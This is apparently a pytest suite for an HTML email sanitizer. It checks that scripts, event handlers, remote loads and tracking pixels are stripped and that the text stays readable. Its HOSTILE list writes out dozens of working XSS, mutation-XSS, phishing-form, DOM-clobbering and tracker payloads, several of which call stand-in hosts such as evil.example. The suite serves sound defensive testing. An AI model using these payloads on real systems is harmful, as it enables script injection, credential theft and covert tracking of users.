"""HTML mail made safe: nothing of it runs, nothing is loaded from anywhere when it is shown, its words stay."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from trunkline.channels.email.html import TooDeep, clean, text_of

DIGEST = "a" * 64

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://tracker.example/p.gif>",
    "<img src='//tracker.example/p.gif'>",
    "<img srcset='https://tracker.example/p.gif 2x' src='cid:pic'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='cid:pic' style='background:url(https://tracker.example)'>",
    "<body background=https://tracker.example/p.gif onload=alert(1)>",
    "<table background='https://tracker.example/p.gif'><tr><td background='https://tracker.example'>x</td></tr></table>",
    "<style>@import url(https://tracker.example/x.css); body{background:url(//tracker.example)}</style>",
    "<link rel=stylesheet href=https://tracker.example/x.css>",
    "<link rel=prefetch href=https://tracker.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><use href='https://evil.example#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video src=https://tracker.example autoplay><source src=https://tracker.example></video>",
    "<audio src=https://tracker.example autoplay></audio>",
    "<input type=image src=https://tracker.example>",
    "<p style='background-image:url(https://tracker.example)'>x</p>",
    "<font color=red style='behavior:url(x)'>x</font>",
    "<!--[if mso]><img src=https://tracker.example><![endif]-->",
    "<template><img src=https://tracker.example></template>",
    "<picture><source srcset=https://tracker.example><img src=cid:pic></picture>",
    "<a href=https://shop.example onclick=alert(1) target=_top>x</a>",
    "<blockquote cite=https://tracker.example>x</blockquote>",
    "<div id=desk class=offer name=x>clobber</div>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src='cid:../../etc/passwd'>",
    "<<script>alert(1)//<</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href='https://a.example' ping='https://tracker.example'>x</a>",
]


class Seen(HTMLParser):
    """Collects every tag and attribute, as a browser would meet them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_runs_and_nothing_is_loaded(hostile: str) -> None:
    seen = Seen()
    seen.feed(clean(hostile, {"pic": DIGEST}))

    for tag, attributes in seen.tags:
        assert tag not in {
            "script",
            "style",
            "link",
            "meta",
            "base",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
        }
        assert not {name for name in attributes if name.startswith("on")}
        assert not {"style", "background", "srcset", "ping", "id", "class", "name", "target", "cite"} & set(attributes)
        if "src" in attributes:
            assert tag == "img"
            assert re.fullmatch(r"cid:[0-9a-f]{64}", attributes["src"])
        if "href" in attributes:
            assert re.match(r"(?:https?|mailto|tel|cid):", attributes["href"])
            assert "noopener" in attributes["rel"]


def test_the_mails_own_pictures_are_named_by_what_they_are() -> None:
    assert clean('<img src="cid:pic@1" alt="cup">', {"pic@1": DIGEST}) == f'<img src="cid:{DIGEST}" alt="cup">'


def test_words_keep_their_lines_and_quotes_their_marks() -> None:
    html = "<p>One <b>two</b></p><ul><li>a</li><li>b</li></ul><blockquote>q<br>r<blockquote>s</blockquote></blockquote>"

    assert text_of(clean(html, {})) == "One two\n\n* a\n* b\n\n> q\n> r\n> > s"


def test_a_link_whose_words_hide_its_address_shows_it() -> None:
    assert text_of(clean('<a href="https://x.example/y">click</a>', {})) == "click (https://x.example/y)"
    assert text_of(clean('<a href="mailto:a@b.example">a@b.example</a>', {})) == "a@b.example"


@pytest.mark.parametrize("html", ["<div>" * 30_000, "<p>" + "x" * 1_000_001], ids=["deep", "long"])
def test_what_would_take_seconds_is_not_cleaned_at_all(html: str) -> None:
    with pytest.raises(TooDeep):
        clean(html, {})


def test_many_tables_side_by_side_are_not_deep() -> None:
    assert clean("<table><tr><td>x</td></tr></table>" * 500, {}).count("<td>") == 500
